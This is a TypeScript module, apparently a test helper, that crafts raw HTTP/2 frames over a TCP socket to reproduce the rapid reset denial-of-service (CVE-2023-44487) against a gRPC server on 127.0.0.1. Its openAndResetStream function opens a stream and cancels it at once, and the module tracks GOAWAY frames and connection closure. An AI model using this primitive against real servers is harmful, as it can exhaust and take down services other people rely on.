/**
 * HTTP/2 as frames on a plain TCP socket, for what no HTTP/2 client sends: a
 * stream reset the moment it opened, thousands of times on one connection
 * (HTTP/2 rapid reset, CVE-2023-44487). node:http2's client queues and
 * coalesces such streams; these are written as they are. Frame layout per
 * RFC 9113 §4.1; header blocks as HPACK literals without indexing (RFC 7541 §6.2.2).
 */
import net from "node:net";

const connectionPreface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

export const frameType = { headers: 0x1, rstStream: 0x3, settings: 0x4, goaway: 0x7 } as const;
export const endHeadersFlag = 0x4;
const ackFlag = 0x1;
/** RST_STREAM's error code when a client no longer wants the stream. */
const cancelCode = 0x8;

export function http2Frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/** A header field as an HPACK literal without indexing, its name and value as they are (each under 127 bytes). */
function literalHeader(name: string, value: string): Buffer {
  const nameBytes = Buffer.from(name);
  const valueBytes = Buffer.from(value);
  return Buffer.concat([Buffer.from([0x00, nameBytes.length]), nameBytes, Buffer.from([valueBytes.length]), valueBytes]);
}

/** The header block of a gRPC call to `path`, as a grpc-js client opens it. */
export function grpcCallHeaderBlock(path: string): Buffer {
  return Buffer.concat([
    // :method POST and :scheme http, from HPACK's static table.
    Buffer.from([0x83, 0x86]),
    literalHeader(":path", path),
    literalHeader(":authority", "127.0.0.1"),
    literalHeader("content-type", "application/grpc"),
    literalHeader("te", "trailers"),
  ]);
}

/** HEADERS opening stream `streamId`, and at once RST_STREAM (CANCEL) on it. */
export function openAndResetStream(streamId: number, headerBlock: Buffer): Buffer {
  const code = Buffer.alloc(4);
  code.writeUInt32BE(cancelCode);
  return Buffer.concat([http2Frame(frameType.headers, endHeadersFlag, streamId, headerBlock), http2Frame(frameType.rstStream, 0, streamId, code)]);
}

export interface RawHttp2Connection {
  write(bytes: Buffer): void;
  /** The GOAWAY the server sent last, if any. */
  goaway(): { lastStreamId: number; errorCode: number } | null;
  /** Settles once the connection is closed, by either side. */
  closed: Promise<void>;
  isClosed(): boolean;
  destroy(): void;
}

/** A connection that has sent the preface and empty SETTINGS, and acknowledges the server's SETTINGS (nothing else). */
export function connectRawHttp2(url: string): Promise<RawHttp2Connection> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const socket = net.connect(Number(port), hostname);
    let lastGoaway: { lastStreamId: number; errorCode: number } | null = null;
    let isClosed = false;
    let pending = Buffer.alloc(0);
    const closed = new Promise<void>((settle) => socket.once("close", () => ((isClosed = true), settle())));
    socket.on("data", (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
        const length = pending.readUIntBE(0, 3);
        const type = pending.readUInt8(3);
        const flags = pending.readUInt8(4);
        const payload = pending.subarray(9, 9 + length);
        pending = pending.subarray(9 + length);
        if (type === frameType.goaway) lastGoaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, errorCode: payload.readUInt32BE(4) };
        if (type === frameType.settings && (flags & ackFlag) === 0) socket.write(http2Frame(frameType.settings, ackFlag, 0));
      }
    });
    socket.once("error", reject);
    socket.once("connect", () => {
      // After the connection is up, a reset from the server is one more way it closes.
      socket.removeListener("error", reject);
      socket.on("error", () => {});
      socket.write(Buffer.concat([connectionPreface, http2Frame(frameType.settings, 0, 0)]));
      resolve({
        write: (bytes) => void socket.write(bytes),
        goaway: () => lastGoaway,
        closed,
        isClosed: () => isClosed,
        destroy: () => socket.destroy(),
      });
    });
  });
}
